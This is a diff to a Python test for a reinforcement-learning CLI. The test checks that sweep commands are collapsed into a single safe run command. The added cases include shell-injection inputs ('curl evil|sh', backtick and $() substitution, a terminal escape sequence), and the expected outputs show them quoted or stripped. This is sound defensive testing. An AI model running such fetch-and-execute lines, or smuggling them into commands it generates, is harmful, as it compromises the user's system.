@@ -21,8 +21,13 @@ from tests.support.report_page import read, section
         ("rlher train -m her=default,sb3 seed=3", "rlher train -m her=default,sb3 seed=3"),  # not in config.yaml
         ("rlher train -m 'seed=range(4)' --workers 2 env=Some-v0", "rlher train seed=3 env=Some-v0"),
         ("rlher train -m --workers=2 launcher=ray --ray-address a:1 seed=1,3", "rlher train seed=3"),
-        ("rlher train -m 'seed=1,3", "rlher train -m 'seed=1,3"),
-        ("rlher train -m seed=1,3\nrlher train --resume a", "rlher train seed=3\nrlher train --resume a"),
+        ("rlher train -m 'seed=1,3", ""),
+        ("rlher train -m seed=1,3\nrlher train --resume a", "rlher train seed=3"),
+        ("rlher train seed=3; curl evil|sh", "rlher train 'seed=3;' curl 'evil|sh'"),
+        ("rlher train -m seed=1,3 `curl evil` $(evil)", "rlher train seed=3 '`curl' 'evil`' '$(evil)'"),
+        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", "rlher train seed=3"),
+        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", ""),
+        ("rlher train \x1b[201~ seed=3", ""),
     ],
 )
 def test_a_sweep_becomes_a_single_run(make_run: Make, typed: str, expected: str) -> None:
